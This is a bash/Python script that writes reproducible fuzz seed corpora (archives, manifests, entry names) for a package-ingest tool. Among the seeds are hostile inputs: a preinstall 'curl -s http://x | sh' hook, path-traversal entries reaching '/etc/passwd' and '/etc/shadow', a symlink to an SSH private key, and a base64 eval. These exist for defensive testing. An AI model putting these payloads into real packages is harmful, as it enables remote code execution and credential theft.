#!/usr/bin/env bash
# make-seeds.sh - (re)writes the small seed corpora of the ingest fuzzers:
#   tests/fuzz/corpus/archive/   tiny npm tarballs, wheels, sdists, nested
#                                and hostile archives, one plain file
#   tests/fuzz/corpus/manifest/  package.json, METADATA and PKG-INFO texts
#   tests/fuzz/corpus/path/      entry names (NUL, then a link target)
# Output is byte-for-byte reproducible (fixed times, owners and order), so
# rerunning it leaves git clean. Needs python3 (tarfile, zipfile, gzip,
# bz2, lzma from its standard library).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
exec python3 - "$here/corpus" <<'PY'
import bz2, gzip, io, lzma, os, sys, tarfile, zipfile

out = sys.argv[1]
MTIME = 499162500

def write(sub, name, data):
    d = os.path.join(out, sub)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)

def tar(entries, fmt=tarfile.PAX_FORMAT):
    """entries: (name, kind, payload) with kind file|dir|sym|hard|fifo|chr."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt,
                      encoding="utf-8", errors="surrogateescape") as t:
        for name, kind, payload in entries:
            ti = tarfile.TarInfo(name)
            ti.mtime = MTIME
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            ti.mode = 0o644
            data = None
            if kind == "file":
                data = payload.encode() if isinstance(payload, str) else payload
                ti.size = len(data)
            elif kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
            elif kind == "sym":
                ti.type, ti.linkname = tarfile.SYMTYPE, payload
            elif kind == "hard":
                ti.type, ti.linkname = tarfile.LNKTYPE, payload
            elif kind == "fifo":
                ti.type = tarfile.FIFOTYPE
            elif kind == "chr":
                ti.type, ti.devmajor, ti.devminor = tarfile.CHRTYPE, 1, 3
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
        end = t.offset
    # keep the end-of-archive blocks, drop the padding to 10 KiB records
    return buf.getvalue()[:end + 1024]

def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)

def zipped(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, payload in entries:
            zi = zipfile.ZipInfo(name, date_time=(1985, 10, 26, 1, 35, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, payload)
    return buf.getvalue()

# ---- archives -----------------------------------------------------------
pj = '{"name":"seed","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}'
npm = tar([("package/package.json", "file", pj),
           ("package/index.js", "file", "module.exports = 1;\n"),
           ("package/setup.js", "file", "require('child_process');\n")])
write("archive", "npm.tgz", gz(npm))
write("archive", "npm.tar.bz2", bz2.compress(npm))
write("archive", "npm.tar.xz", lzma.compress(npm))

write("archive", "bundled.tgz", gz(tar([
    ("package/package.json", "file", '{"name":"app","bundleDependencies":["dep"]}'),
    ("package/node_modules/dep/package.json", "file", '{"name":"dep"}'),
    ("package/node_modules/@s/x/package.json", "file", '{"name":"@s/x"}'),
    ("package/node_modules/dep/index.js", "file", "1;\n")])))

write("archive", "wheel.whl", zipped([
    ("pkg/__init__.py", "import os\n"),
    ("pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n"),
    ("pkg-1.0.dist-info/RECORD", "pkg/__init__.py,,\npkg-1.0.dist-info/METADATA,,\n")]))

write("archive", "sdist.tar.gz", gz(tar([
    ("pkg-1.0/PKG-INFO", "file", "Metadata-Version: 1.2\nName: pkg\nVersion: 1.0\n"),
    ("pkg-1.0/setup.py", "file", "from setuptools import setup\nsetup()\n"),
    ("pkg-1.0/pkg.egg-info/PKG-INFO", "file", "Name: pkg\n")])))

write("archive", "site.tar", tar([
    ("a-1.0.dist-info/METADATA", "file", "Name: a\nVersion: 1.0\n"),
    ("a-1.0.dist-info/RECORD", "file", 'a/__init__.py,,\n"a/q,x.py",,\n'),
    ("a/__init__.py", "file", ""),
    ("b-2.0.dist-info/METADATA", "file", "Name: b\nVersion: 2.0\n"),
    ("b-2.0.dist-info/RECORD", "file", "b.py,,\n../../x,,\n"),
    ("b.py", "file", "")]))

write("archive", "hostile.tar", tar([
    ("package/package.json", "file", '{"name":"h","name":"dup"}'),
    ("../../etc/passwd", "file", "x"),
    ("/abs/path", "file", "x"),
    ("C:\\x", "file", "x"),
    ("package/key", "sym", "../../../../home/u/.ssh/id_rsa"),
    ("package/alias.js", "sym", "index.js"),
    ("package/hard", "hard", "package/package.json"),
    ("package/fifo", "fifo", None),
    ("package/null", "chr", None),
    ("package/index.js", "file", "1"),
    ("package/index.js", "file", "2"),
    ("package/bad\udcff\udcfe.js", "file", "x")]))

inner = gz(tar([("package/package.json", "file", '{"name":"inner"}'),
                ("package/i.js", "file", "1;\n")]))
middle = gz(tar([("package/package.json", "file", '{"name":"middle"}'),
                 ("package/inner.tgz", "file", inner),
                 ("package/bad.tgz", "file", b"\x1f\x8b\x08\x00garbage")]))
write("archive", "nested.tgz", gz(tar([("package/package.json", "file", '{"name":"outer"}'),
                                       ("package/middle.tgz", "file", middle),
                                       ("vendor/w.whl", "file", zipped([("m.py", "1\n")]))])))

write("archive", "ustar.tar", tar([("package/package.json", "file", '{"name":"u"}'),
                                   ("package/a.js", "file", "a")], fmt=tarfile.USTAR_FORMAT))
write("archive", "gnu.tar", tar([("package/" + "l" * 150 + ".js", "file", "long name")],
                                fmt=tarfile.GNU_FORMAT))
write("archive", "plain.js", "eval(Buffer.from('aWQ=', 'base64').toString());\n")

# ---- manifests ----------------------------------------------------------
write("manifest", "package.json", pj)
write("manifest", "scripts.json",
      '{"name":"s","version":"1.0.0","scripts":{"preinstall":"curl -s http://x | sh",'
      '"install":"node-gyp rebuild"},"dependencies":{"a":"^1.0.0","b":"git+https://x/y.git"},'
      '"exports":{".":{"import":"./i.mjs","require":"./i.cjs"}}}')
write("manifest", "dup-keys.json", '{"name":"a","name":"b","scripts":{},"scripts":{"x":"y"}}')
write("manifest", "bom.json", b'\xef\xbb\xbf{"name":"bom"}')
write("manifest", "deep.json", '{"a":' * 30 + "1" + "}" * 30)
write("manifest", "not-object.json", '["a", 1, null]')
write("manifest", "METADATA",
      "Metadata-Version: 2.1\r\nName: pkg\r\nVersion: 1.0\r\nRequires-Dist: x\r\n\r\nbody\r\n")
write("manifest", "PKG-INFO", "Metadata-Version: 1.0\nName:  spaced  \nVersion:\n")

# ---- entry names ----------------------------------------------------------
for i, (name, target) in enumerate([
        (b"package/index.js", b""),
        (b"./package//lib/../a.js", b"../b.js"),
        (b"../../etc/passwd", b"/etc/shadow"),
        (b"C:\\Windows\\x", b"C:\\y"),
        (b"./C:/x", b"..\\..\\z"),
        (b"package/bad\xff\xfe\xc0\xaf.js", b"a/../../../b"),
        (b"package/\x1b[2J\n.js", b"."),
        (b"\\\\server\\share\\f", b"x/y/../../..")]):
    write("path", "name-%02d" % i, name + b"\0" + target)
PY
